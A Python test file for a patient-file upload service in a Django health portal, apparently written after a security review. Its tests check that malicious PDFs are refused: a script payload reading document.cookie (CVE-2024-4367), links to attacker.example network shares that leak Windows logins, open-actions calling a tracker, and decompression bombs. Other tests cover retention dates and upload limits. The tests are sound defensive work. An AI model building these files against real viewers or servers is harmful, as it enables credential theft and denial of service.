"""What a review of patients' files found (issue 12: FIL-1, FIL-2, TEL-3), each reproduced and refused."""

from __future__ import annotations

import datetime as dt
import io
import struct
import zlib

import pikepdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import RequestFactory
from django.urls import reverse
from PIL import Image

from carenet.accounts.selectors import actor_for_user
from carenet.core import clock
from carenet.files.disarm import FileRefused, disarm
from carenet.files.models import PatientFile
from carenet.files.policies import TERMS_VERSION, FileRefusal
from carenet.files.services import file_sweep, file_upload
from carenet.files.tests.corpus import MAX_BYTES, pdf
from carenet.files.tests.factories import (
    PatientFileFactory,
    TermsAcceptanceFactory,
    enrolled_patient,
    png_bytes,
    upload,
)
from tests.cast import Cast


def _refusal(data: bytes) -> FileRefusal | None:
    try:
        disarm(data, max_bytes=MAX_BYTES)
    except FileRefused as refused:
        return refused.refusal
    return None


def _link(document: pikepdf.Pdf, action: pikepdf.Dictionary) -> None:
    annotation = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 100, 100], A=action)
    document.pages[0].obj.Annots = pikepdf.Array([document.make_indirect(annotation)])


# --- PDFs: active content the first walk let through ----------------------------------------------------------


def _go_to_first_page(document: pikepdf.Pdf) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=pikepdf.Array([document.pages[0].obj, pikepdf.Name.Fit]))


def _open_then_visit(document: pikepdf.Pdf) -> None:
    """Opening the file "goes to page 1" — and then, chained with /Next, opens an address on the internet."""
    action = _go_to_first_page(document)
    action.Next = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://tracker.example/opened"))
    document.Root.OpenAction = document.make_indirect(action)


def _open_then_visit_in_array(document: pikepdf.Pdf) -> None:
    action = _go_to_first_page(document)
    action.Next = pikepdf.Array([pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://t.example/"))])
    document.Root.OpenAction = action


@pytest.mark.parametrize("change", [_open_then_visit, _open_then_visit_in_array])
def test_an_action_on_opening_cannot_hide_behind_a_go_to_page(change) -> None:  # type: ignore[no-untyped-def]
    assert _refusal(pdf(change=change)) is FileRefusal.PDF_ACTIVE
    assert (
        _refusal(pdf(change=lambda document: setattr(document.Root, "OpenAction", _go_to_first_page(document)))) is None
    )


def _three_d(document: pikepdf.Pdf) -> None:
    """A 3D annotation whose artwork runs a script when it is shown (/OnInstantiate): Acrobat runs it."""
    script = document.make_stream(b"host.app.alert('3D')")
    artwork = document.make_stream(b"U3D", Type=pikepdf.Name("/3D"), Subtype=pikepdf.Name.U3D, OnInstantiate=script)
    annotation = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name("/3D"), Rect=[0, 0, 100, 100])
    annotation["/3DD"] = artwork
    document.pages[0].obj.Annots = pikepdf.Array([document.make_indirect(annotation)])


def _three_d_script_only(document: pikepdf.Pdf) -> None:
    script = document.make_stream(b"host.app.alert('3D')")
    document.Root.Artwork = document.make_stream(b"U3D", OnInstantiate=script)


@pytest.mark.parametrize("change", [_three_d, _three_d_script_only])
def test_a_3d_artwork_with_its_script_is_refused(change) -> None:  # type: ignore[no-untyped-def]
    assert _refusal(pdf(change=change)) is FileRefusal.PDF_ACTIVE


@pytest.mark.parametrize(
    "target",
    [
        pikepdf.String("\\\\attacker.example\\share\\article.pdf"),
        pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F=pikepdf.String("smb://attacker.example/a.pdf")),
    ],
)
def test_a_link_to_an_article_in_another_file_is_refused_like_a_link_to_another_file(target: object) -> None:
    """/Thread with /F opens another file (a network share leaks the clinician's Windows login), like /GoToR."""
    action = pikepdf.Dictionary(S=pikepdf.Name.Thread, D=0, F=target)
    assert _refusal(pdf(change=lambda document: _link(document, action))) is FileRefusal.PDF_ACTIVE


def test_a_link_to_an_article_of_the_same_file_is_kept() -> None:
    action = pikepdf.Dictionary(S=pikepdf.Name.Thread, D=0)
    assert _refusal(pdf(change=lambda document: _link(document, action))) is None


def _font_matrix(*entries: object) -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        font = pikepdf.Dictionary(
            Type=pikepdf.Name.Font,
            Subtype=pikepdf.Name.Type1,
            BaseFont=pikepdf.Name.Helvetica,
            FontMatrix=pikepdf.Array(list(entries)),
        )
        document.pages[0].obj.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=document.make_indirect(font)))

    return pdf(change=change)


def test_a_font_matrix_carrying_code_is_refused() -> None:
    """CVE-2024-4367: pdf.js (Firefox's viewer) before 4.2.67 ran a string in /FontMatrix as JavaScript."""
    code = pikepdf.String("0); alert(document.cookie); (")
    assert _refusal(_font_matrix(1, 0, 0, 1, 0, code)) is FileRefusal.PDF_ACTIVE
    assert _refusal(_font_matrix(0.001, 0, 0, 0.001, 0, 0)) is None


# --- pictures -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("level", [0, 12_850, 40_000, 65_535])
def test_a_16_bit_greyscale_picture_keeps_its_greys(level: int) -> None:
    """A 16-bit greyscale PNG (an X-ray or a scan exported by a viewer) was stored all white: every grey over 255
    of 65 535 was clipped."""
    source = io.BytesIO()
    Image.new("I;16", (8, 6), level).save(source, format="PNG")
    stored = disarm(source.getvalue(), max_bytes=MAX_BYTES)
    with Image.open(io.BytesIO(stored.content)) as picture:
        grey = picture.convert("L").getpixel((3, 3))
        assert picture.size == (8, 6)
    assert grey == level >> 8


# --- the scheduled deletion (FIL-2) ---------------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("uploaded_at", "kept_until"),
    [
        # 1 September 00:30 in Warsaw (summer time): kept until 1 December 00:30 in Warsaw (winter time).
        (dt.datetime(2026, 8, 31, 22, 30, tzinfo=dt.UTC), dt.datetime(2026, 11, 30, 23, 30, tzinfo=dt.UTC)),
        # 31 August 23:30 in Warsaw: kept until the last day of November, 23:30 in Warsaw.
        (dt.datetime(2026, 8, 31, 21, 30, tzinfo=dt.UTC), dt.datetime(2026, 11, 30, 22, 30, tzinfo=dt.UTC)),
        # 1 March 00:30 in Warsaw (winter time): kept until 1 June 00:30 in Warsaw (summer time).
        (dt.datetime(2027, 2, 28, 23, 30, tzinfo=dt.UTC), dt.datetime(2027, 5, 31, 22, 30, tzinfo=dt.UTC)),
    ],
)
def test_a_file_is_kept_three_calendar_months_of_the_patient_s_calendar(
    uploaded_at: dt.datetime, kept_until: dt.datetime
) -> None:
    """Months were counted in UTC: a file uploaded on 1 September after midnight in Warsaw was deleted on
    30 November, before three months had passed on the patient's calendar."""
    patient = enrolled_patient()
    TermsAcceptanceFactory(patient=patient, terms_version=TERMS_VERSION)
    row = file_upload(
        actor=actor_for_user(patient.user),
        patient_id=patient.pk,
        upload=upload(png_bytes(), "IMG_1.png"),
        description="Zmiana na skórze",
        now=uploaded_at,
    )
    assert row.delete_after == kept_until
    assert file_sweep(now=kept_until - dt.timedelta(minutes=1)) == 0
    assert file_sweep(now=kept_until) == 1


# --- PDFs: work without end -----------------------------------------------------------------------------------


def _flate_bomb(megabytes: int, layers: int) -> bytes:
    """A PDF of a few kilobytes with a stream of ``megabytes`` of zeros behind ``layers`` of /FlateDecode: each
    layer multiplies by a thousand, so a small upload can hold terabytes."""
    squeeze = zlib.compressobj(9)
    zeros = bytes(1 << 20)
    data = b"".join(squeeze.compress(zeros) for _ in range(megabytes)) + squeeze.flush()
    for _ in range(layers - 1):
        data = zlib.compress(data, 9)
    document = pikepdf.new()
    document.add_blank_page()
    stream = pikepdf.Stream(document, data)
    stream.Filter = pikepdf.Array([pikepdf.Name.FlateDecode] * layers)
    document.Root.Extra = document.make_indirect(stream)
    out = io.BytesIO()
    document.save(out, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)
    return out.getvalue()


def test_a_compressed_stream_is_never_inflated_while_the_pdf_is_written_out_again() -> None:
    """Writing the PDF out again decoded and re-encoded every compressed stream: a 2 kB upload with two layers of
    compression kept a worker inflating gigabytes (each 1 GB ~ 5 s of CPU; an 8 MB upload, hours)."""
    bomb = _flate_bomb(256, layers=2)
    assert len(bomb) < 4_000
    stored = disarm(bomb, max_bytes=MAX_BYTES)
    assert len(stored.content) < 8_000  # the stream as it came; inflated, it was 256 MB of zeros (260 kB again)
    with pikepdf.open(io.BytesIO(stored.content)) as document:
        assert len(document.pages) == 1


def _object_stream_bomb(megabytes: int) -> bytes:
    """A hand-written PDF of a kilobyte whose object stream (two layers of /FlateDecode) inflates to
    ``megabytes``: qpdf must inflate it whole, in memory, to read the object in it."""
    head = b"6 0 "
    body = b"<< /Foo 1 >>"
    squeeze = zlib.compressobj(9)
    spaces = b" " * (1 << 20)
    data = (
        squeeze.compress(head + body) + b"".join(squeeze.compress(spaces) for _ in range(megabytes)) + squeeze.flush()
    )
    data = zlib.compress(data, 9)
    out = bytearray(b"%PDF-1.5\n")
    offsets = {}

    def obj(number, text):
        offsets[number] = len(out)
        out.extend(b"%d 0 obj\n" % number + text + b"\nendobj\n")

    obj(1, b"<< /Type /Catalog /Pages 2 0 R /Extra 6 0 R >>")
    obj(2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
    obj(3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] >>")
    obj(
        4,
        b"<< /Type /ObjStm /N 1 /First %d /Filter [/FlateDecode /FlateDecode] /Length %d >>\nstream\n"
        % (len(head), len(data))
        + data
        + b"\nendstream",
    )
    rows = [(0, 0, 65535)] + [(1, offsets[n], 0) for n in (1, 2, 3, 4)]
    xref_at = len(out)
    rows.append((1, xref_at, 0))
    rows.append((2, 4, 0))
    table = b"".join(struct.pack(">BIH", *row) for row in rows)
    out.extend(
        b"5 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(table)
        + table
        + b"\nendstream\nendobj\n"
    )
    out.extend(b"startxref\n%d\n%%%%EOF\n" % xref_at)
    return bytes(out)


def test_an_object_stream_is_never_inflated_past_the_limit() -> None:
    """A 1 kB upload made the server hold 300 MB (4 GB: the worker killed) to read one object stream."""
    bomb = _object_stream_bomb(100)
    assert len(bomb) < 2_000
    stored = disarm(bomb, max_bytes=MAX_BYTES)  # read as a damaged file: the object in the bomb is dropped
    with pikepdf.open(io.BytesIO(stored.content)) as document:
        assert "/Foo" not in repr(document.Root.get("/Extra"))
        assert len(document.pages) == 1


# --- the doors ------------------------------------------------------------------------------------------------


def test_no_request_writes_more_of_its_files_to_disk_than_the_largest_files_allowed(settings) -> None:  # type: ignore[no-untyped-def]
    """Files of a form do not count against DATA_UPLOAD_MAX_MEMORY_SIZE: any page (the login page too, with just a
    CSRF cookie) wrote a multipart file of any size to the server's temporary folder before a view could refuse it.
    A request passes on at most the largest file allowed of each of at most as many files as a form takes (an
    insurance claim's documents, FBK-3); a file past the count arrives empty."""
    settings.CARENET_FILE_MAX_BYTES = 1000
    settings.CARENET_CLAIM_MAX_FILES = 2
    request = RequestFactory().post(
        "/pl/logowanie/",
        {
            "first": SimpleUploadedFile("a.png", b"\x89PNG" + bytes(300_000)),
            "second": SimpleUploadedFile("b.png", bytes(300_000)),
            "third": SimpleUploadedFile("c.png", bytes(300_000)),
        },
    )
    received = {name: upload.size for name, upload in request.FILES.items()}
    # One byte over the limit: "too large", as the service says; the third file is dropped unread.
    assert received == {"first": 1001, "second": 1001, "third": 0}


@pytest.mark.django_db
def test_a_file_over_the_limit_on_the_page_is_refused_as_too_large(cast: Cast, settings) -> None:  # type: ignore[no-untyped-def]
    settings.CARENET_FILE_MAX_BYTES = 2000
    answer = cast.client("patient").post(
        reverse("portal:files"),
        {
            "description": "Zmiana na skórze",
            "accept_terms": "on",
            "file": SimpleUploadedFile("big.png", png_bytes() + bytes(50_000)),
        },
        headers={"Accept-Language": "en"},
    )
    assert answer.status_code == 422 and not PatientFile.objects.exists()


@pytest.mark.django_db
def test_a_file_past_its_deletion_time_is_gone_for_its_patient_before_the_sweep_runs(cast: Cast) -> None:
    """The sweep runs once an hour (or not at all while the worker is down): a file past its three months was still
    listed, downloadable and counted against the five (FIL-2) — the clinician already no longer saw it."""
    now = clock.now()
    TermsAcceptanceFactory(patient=cast.patient, terms_version=TERMS_VERSION)
    past = [PatientFileFactory(patient=cast.patient, delete_after=now - dt.timedelta(minutes=1)) for _ in range(5)]
    client = cast.client("patient")
    listing = client.get(reverse("api:file_list")).json()
    assert listing["results"] == [] and listing["slots_left"] == 5
    assert client.get(reverse("api:file_detail", args=[past[0].pk])).status_code == 404
    assert client.get(reverse("api:file_content", args=[past[0].pk])).status_code == 404
    assert client.get(reverse("portal:file_download", args=[past[0].pk])).status_code == 404
    assert past[0].original_name not in client.get(reverse("portal:files")).content.decode()
    row = file_upload(
        actor=actor_for_user(cast.user("patient")),
        patient_id=cast.patient.pk,
        upload=upload(png_bytes(), "IMG_1.png"),
        description="Zmiana na skórze",
    )
    assert row.pk and PatientFile.objects.filter(patient=cast.patient).count() == 6
